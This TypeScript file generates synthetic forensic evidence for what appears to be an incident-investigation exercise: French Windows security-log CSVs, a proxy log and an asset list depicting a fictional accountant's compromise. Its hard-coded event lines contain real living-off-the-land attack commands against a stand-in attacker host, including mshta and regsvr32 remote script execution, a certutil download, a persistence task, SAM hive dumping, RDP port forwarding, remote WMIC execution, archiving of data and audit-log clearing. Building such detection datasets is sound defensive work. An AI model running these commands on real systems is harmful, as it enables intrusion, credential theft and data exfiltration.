import type { ExampleFile } from "../examples/files.ts";
import { createRandom, type Random } from "../examples/random.ts";
import { createLines, scatter, stampOf, utc } from "./lines.ts";

const from = utc("2025-03-04 06:00:00");
const to = utc("2025-03-04 17:00:00");
const strike = utc("2025-03-04 13:22:10");
const attacker = "198.51.100.23";
const system = "C:\\Windows\\System32\\";
const cmd = `${system}cmd.exe`;

/**
 * A French accountant's: an .hta from a mail, then only what Windows brings along, to the server and its log cleared. Both logs are Event Viewer's CSV
 * of a French Windows (day first, local time, no column for the message); an inventory agent uses the same tools harmlessly.
 */
export function accountingIncident(): ExampleFile[] {
  const random = createRandom(304);
  return [
    { path: "organisation.yml", content: organisation },
    { path: "evidence/PC-COMPTA/securite.csv", content: workstation(random) },
    { path: "evidence/SRV-COMPTA/securite.csv", content: server(random) },
    { path: "evidence/proxy/access.log", content: proxy(random) },
  ];
}

interface Row {
  ms: number;
  id: number;
  category: string;
  message: string;
  source?: string;
  keyword?: string;
}

/** Newest first, as the viewer exports it. */
function exported(rows: readonly Row[]): string {
  const cell = (text: string) => (/[",\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text);
  const lines = [...rows]
    .sort((a, b) => b.ms - a.ms)
    .map(({ ms, id, category, message, source, keyword }) => {
      const { date, clock } = stampOf(ms, 1);
      const [year, month, day] = date.split("-");
      const auditing = "Microsoft-Windows-Security-Auditing";
      return [
        keyword ?? "Succès de l'audit",
        `${day}/${month}/${year} ${clock}`,
        source ?? auditing,
        String(id),
        category,
        message,
      ]
        .map(cell)
        .join(",");
    });
  return `\uFEFFMots clés,Date et heure,Source,ID de l’événement,Catégorie de la tâche\r\n${lines.join("\r\n")}\r\n`;
}

const section = (title: string, lines: readonly [string, string][]) =>
  `${title} :\n${lines.map(([label, value]) => `\t${label} :\t\t${value}`).join("\n")}`;
const account = (user: string, domain: string, id: string, session: string): [string, string][] => [
  ["ID de sécurité", id],
  ["Nom du compte", user],
  ["Domaine du compte", domain],
  ["ID d’ouverture de session", session],
];

function started(ms: number, user: string, image: string, line: string, parent: string): Row {
  const program: [string, string][] = [
    ["ID du nouveau processus", "0x1a4"],
    ["Nom du nouveau processus", image],
    ["Type d’élévation du jeton", "%%1938"],
    ["Étiquette obligatoire", "S-1-16-8192"],
    ["ID du processus créateur", "0x1c8"],
    ["Nom du processus créateur", parent],
    ["Ligne de commande du processus", line],
  ];
  const message = [
    "Un nouveau processus a été créé.",
    section("Sujet du créateur", account(user, "MARTIN", "S-1-5-21-9-8-7-1105", "0x5A3C1")),
    section("Sujet cible", account("-", "-", "S-1-0-0", "0x0")),
    section("Informations sur le processus", program),
  ].join("\n\n");
  return { ms, id: 4688, category: "Process Creation", message };
}

function signedIn(ms: number, user: string, address: string, workstation: string): Row {
  const message = [
    "L’ouverture de session d’un compte s’est correctement déroulée.",
    section("Objet", account("-", "-", "S-1-0-0", "0x0")),
    "Type d’ouverture de session :\t\t\t3",
    section("Nouvelle ouverture de session", account(user, "MARTIN", "S-1-5-21-9-8-7-1105", "0x8123")),
    section("Informations sur le réseau", [
      ["Nom de la station de travail", workstation],
      ["Adresse du réseau source", address],
      ["Port source", "50122"],
    ]),
  ].join("\n\n");
  return { ms, id: 4624, category: "Logon", message };
}

function workstation(random: Random): string {
  const rows: Row[] = [];
  scatter(random, 400, from, to, (ms) => {
    const image = random.pick([
      "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
      `${system}svchost.exe`,
    ]);
    rows.push(started(ms, "mlefevre", image, "chrome.exe --type=renderer", `${system}services.exe`));
  });
  const agent = (time: string, image: string, line: string) =>
    rows.push(started(utc(time), "PC-COMPTA$", image, line, "C:\\Program Files\\Agent\\agent.exe"));
  agent("2025-03-04 08:00:00", `${system}certutil.exe`, "certutil.exe -verifystore root");
  agent("2025-03-04 08:01:00", `${system}wbem\\WMIC.exe`, "wmic bios get serialnumber");
  const step = (offset: number, image: string, line: string, parent = cmd) =>
    rows.push(started(strike + offset * 1000, "mlefevre", system + image, line, parent));
  const outlook = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE";
  step(0, "mshta.exe", `mshta.exe https://${attacker}/f.hta`, outlook);
  step(
    20,
    "certutil.exe",
    `certutil -urlcache -split -f http://${attacker}/u.txt C:\\Users\\mlefevre\\AppData\\Local\\u.txt`,
  );
  step(60, "regsvr32.exe", `regsvr32 /s /n /u /i:http://${attacker}/b.sct scrobj.dll`);
  step(
    120,
    "schtasks.exe",
    `schtasks /create /tn MajCompta /sc onlogon /tr "mshta.exe https://${attacker}/f.hta"`,
  );
  step(300, "reg.exe", "reg save HKLM\\SAM C:\\Users\\Public\\s.hiv");
  step(
    400,
    "netsh.exe",
    "netsh interface portproxy add v4tov4 listenport=8443 connectaddress=10.60.0.5 connectport=3389",
  );
  step(
    900,
    "wbem\\WMIC.exe",
    'wmic /node:SRV-COMPTA process call create "cmd /c whoami > c:\\windows\\temp\\o.txt"',
  );
  return exported(rows);
}

function server(random: Random): string {
  const rows: Row[] = [];
  scatter(random, 250, from, to, (ms) =>
    rows.push(
      signedIn(
        ms,
        random.pick(["asimon", "cdubois", "pgarnier"]),
        `10.60.0.${random.between(50, 60)}`,
        "PC-0",
      ),
    ),
  );
  rows.push(signedIn(strike + 901_000, "mlefevre", "10.60.0.41", "PC-COMPTA"));
  const step = (offset: number, image: string, line: string) =>
    rows.push(started(strike + offset * 1000, "mlefevre", image, line, `${system}wbem\\WmiPrvSE.exe`));
  step(902, cmd, "cmd /c whoami > c:\\windows\\temp\\o.txt");
  step(
    1500,
    "C:\\Program Files\\WinRAR\\Rar.exe",
    "rar.exe a -hpSecret -v200m C:\\Windows\\Temp\\c.rar D:\\Compta\\2024",
  );
  rows.push({
    ms: strike + 2_400_000,
    id: 1102,
    category: "Log clear",
    source: "Microsoft-Windows-Eventlog",
    keyword: "Information",
    message:
      "Le journal d’audit a été effacé.\nSujet :\n\tID de sécurité :\tS-1-5-21-9-8-7-1105\n\tNom du compte :\tmlefevre\n\tNom de domaine :\tMARTIN\n\tID de connexion :\t0x8123",
  });
  return exported(rows);
}

function proxy(random: Random): string {
  const log = createLines();
  const add = (ms: number, from: string, code: string, bytes: number, method: string, url: string) =>
    log.add(
      ms,
      `${(ms / 1000).toFixed(3)}    120 ${from} ${code} ${bytes} ${method} ${url} - HIER_DIRECT/${attacker} text/plain`,
    );
  scatter(random, 900, from, to, (ms) =>
    add(
      ms,
      `10.60.0.${random.between(40, 60)}`,
      "TCP_TUNNEL/200",
      random.between(900, 90_000),
      "CONNECT",
      random.pick(["www.impots.gouv.fr:443", "outlook.office.com:443"]),
    ),
  );
  add(strike + 20_500, "10.60.0.41", "TCP_MISS/200", 8100, "GET", `http://${attacker}/u.txt`);
  add(strike + 60_500, "10.60.0.41", "TCP_MISS/200", 2100, "GET", `http://${attacker}/b.sct`);
  for (let i = 0; i < 5; i++)
    add(strike + 3_000_000 + i * 9000, "10.60.0.41", "TCP_MISS/200", 400, "POST", `http://${attacker}/r`);
  return log.text();
}

const organisation = `name: Accountant
timeZone: Europe/Paris
operatingCountries: [FR, US]
internalNetworks: [10.60.0.0/24]
gateways: [10.60.0.1]
assets:
  - { name: PC-COMPTA, addresses: [10.60.0.41], role: workstation }
  - { name: SRV-COMPTA, addresses: [10.60.0.5], role: server, critical: true }
`;
